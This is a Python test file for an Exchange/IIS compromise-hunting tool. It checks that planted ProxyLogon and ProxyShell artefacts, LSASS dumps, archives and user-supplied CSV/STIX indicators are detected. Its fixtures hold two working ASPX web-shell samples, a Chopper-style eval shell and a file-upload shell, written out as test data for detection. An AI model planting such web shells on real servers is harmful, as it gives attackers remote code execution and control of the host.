"""File-tree rules: web-shell places and names, YARA-X content rules, LSASS dumps, archives, IIS config,
and user indicators from CSV and STIX 2.1."""

from __future__ import annotations

import hashlib
import json
import zipfile
from pathlib import Path

from exwatch.hunt import HuntOptions, hunt_paths

IIS_HEAD = "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Date: 2021-03-05 00:00:00\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n"


def _tree(root: Path) -> None:
    (root / "ProgramData" / "Microsoft" / "Windows" / "WER" / "ReportArchive" / "AppCrash_w3wp").mkdir(
        parents=True
    )
    wer = "Version=1\r\nAppName=w3wp.exe\r\nAppPath=C:\\Windows\\System32\\inetsrv\\w3wp.exe\r\nNsAppName=w3wp#MSExchangeECPAppPool\r\n"
    (root / "ProgramData/Microsoft/Windows/WER/ReportArchive/AppCrash_w3wp/Report.wer").write_bytes(
        wer.encode("utf-16")
    )
    (root / "Windows" / "Temp").mkdir(parents=True)
    cab = (
        b"MSCF\x00\x00\x00\x00"
        + b"\x00" * 40
        + b"ip.txt\x00arp.txt\x00system\x00security\x00"
        + b"\x01" * 300
    )
    (root / "Windows/Temp/r.cab").write_bytes(cab)
    (root / "root").mkdir()
    (root / "root/lsass.dmp").write_bytes(b"MDMP" + b"\0" * 100)
    with zipfile.ZipFile(root / "ProgramData" / "it.zip", "w") as zf:
        zf.writestr("out/ip.txt", "10.0.0.5")
        zf.writestr("out/a.aspx", '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>')
    (root / "Windows/System32/inetsrv/config").mkdir(parents=True)
    (root / "Windows/System32/inetsrv/config/applicationHost.config").write_text(
        '<configuration>\n<application path="/x">\n<virtualDirectory path="/" physicalPath="C:\\ProgramData\\COM\\x" />\n</application>\n</configuration>\n'
    )
    (root / "inetpub/wwwroot/aspnet_client").mkdir(parents=True)
    (root / "inetpub/wwwroot/aspnet_client/upd.aspx").write_text(
        '<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e){Request.Files[0].SaveAs(Server.MapPath("x"));}</script>'
    )


def test_file_rules(tmp_path: Path) -> None:
    root = tmp_path / "EXCH01"
    _tree(root)
    res = hunt_paths([root], HuntOptions(jobs=1))
    got = {(f.rule, f.evidence.file) for f in res.findings}
    want = {
        (
            "proxylogon.wer_ecp_apppool",
            "ProgramData/Microsoft/Windows/WER/ReportArchive/AppCrash_w3wp/Report.wer",
        ),
        ("postexploit.recon_cab", "Windows/Temp/r.cab"),
        ("postexploit.lsass_dump", "root/lsass.dmp"),
        ("postexploit.programdata_archive", "ProgramData/it.zip"),
        ("proxyshell.iis_vdir_config", "Windows/System32/inetsrv/config/applicationHost.config"),
        ("webshell.upload_shell", "inetpub/wwwroot/aspnet_client/upd.aspx"),
        ("webshell.unexpected_script", "inetpub/wwwroot/aspnet_client/upd.aspx"),
    }
    assert want <= got, want - got
    vdir = next(f for f in res.findings if f.rule == "proxyshell.iis_vdir_config")
    assert vdir.evidence.line == 3 and "ProgramData\\COM" in vdir.evidence.excerpt
    # The archive's members are hunted too, named inside the archive.
    assert ("webshell.chopper", "ProgramData/it.zip!/out/a.aspx") in got


def test_user_iocs_csv_and_stix(tmp_path: Path) -> None:
    root = tmp_path / "EXCH01"
    (root / "inetpub/logs/LogFiles/W3SVC1").mkdir(parents=True)
    (root / "inetpub/logs/LogFiles/W3SVC1/u_ex1.log").write_text(
        IIS_HEAD + "2021-03-05 08:00:00 10.0.0.5 GET /owa/ - 443 - 203.0.113.77 EvilAgent/1.0 - 200 0 0 20\n"
    )
    (root / "tools").mkdir()
    payload = b"any bytes the feed knows"
    (root / "tools/x.bin").write_bytes(payload)
    csv_feed = tmp_path / "feed.csv"
    csv_feed.write_text(
        f"type,value,note\nsha256,{hashlib.sha256(payload).hexdigest()},partner feed\nuser_agent,EvilAgent/1.0,partner feed\n"
    )
    stix = tmp_path / "feed.json"
    stix.write_text(
        json.dumps(
            {
                "type": "bundle",
                "id": "bundle--6b1a4f3c-3c7e-4f43-9d47-0b6b2f8f2b10",
                "objects": [
                    {
                        "type": "indicator",
                        "spec_version": "2.1",
                        "id": "indicator--8e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f",
                        "created": "2021-03-05T00:00:00.000Z",
                        "modified": "2021-03-05T00:00:00.000Z",
                        "name": "exploitation source",
                        "pattern": "[ipv4-addr:value = '203.0.113.77']",
                        "pattern_type": "stix",
                        "valid_from": "2021-03-05T00:00:00Z",
                    }
                ],
            }
        )
    )
    res = hunt_paths([root], HuntOptions(jobs=1, ioc_files=(csv_feed, stix)))
    got = {(f.rule, f.title, f.confidence, f.evidence.file) for f in res.findings}
    # A user's indicator is titled from the user's own file, at the confidence it states (default likely).
    log = "inetpub/logs/LogFiles/W3SVC1/u_ex1.log"
    assert ("ioc.user", "Indicator from feed.csv", "likely", "tools/x.bin") in got
    assert ("ioc.user", "exploitation source", "likely", log) in got
    assert ("ioc.user", "Indicator from feed.csv", "likely", log) in got
    assert res.above_review


def test_user_ioc_name_description_confidence_and_no_builtin(tmp_path: Path) -> None:
    root = tmp_path / "EXCH01"
    (root / "inetpub/logs/LogFiles/W3SVC1").mkdir(parents=True)
    (root / "inetpub/logs/LogFiles/W3SVC1/u_ex1.log").write_text(
        IIS_HEAD + "2021-03-05 08:00:00 10.0.0.5 GET /owa/ - 443 - 198.51.100.9 x - 200 0 0 20\n"
    )
    (root / "ProgramData").mkdir()
    (root / "ProgramData/it.zip").write_bytes(b"PK\x05\x06" + b"\x00" * 18)
    (root / "root").mkdir()
    (root / "root/lsass.dmp").write_bytes(b"MDMP")
    feed = tmp_path / "case.csv"
    feed.write_text(
        "type,value,name,description,confidence\n"
        "ip,198.51.100.9,Case 42 C2,Seen in the firewall on 2021-03-05,confirmed\n"
        "path,ProgramData/it.zip,Exfil archive,Named by the incident team,review\n"
    )
    res = hunt_paths([root], HuntOptions(jobs=1, ioc_files=(feed,), builtin_rules=False))
    got = {(f.rule, f.title, f.confidence, f.evidence.file) for f in res.findings}
    assert got == {
        ("ioc.user", "Case 42 C2", "confirmed", "inetpub/logs/LogFiles/W3SVC1/u_ex1.log"),
        ("ioc.user", "Exfil archive", "review", "ProgramData/it.zip"),
    }, got
    ip = next(f for f in res.findings if f.title == "Case 42 C2")
    assert ip.description.startswith("Seen in the firewall on 2021-03-05")
    # --no-builtin: no built-in file check (lsass dump, ProgramData archive) ran.
    assert not [f for f in res.findings if f.rule.startswith("postexploit.")]
    assert res.hosts[0].verdict == "compromised"
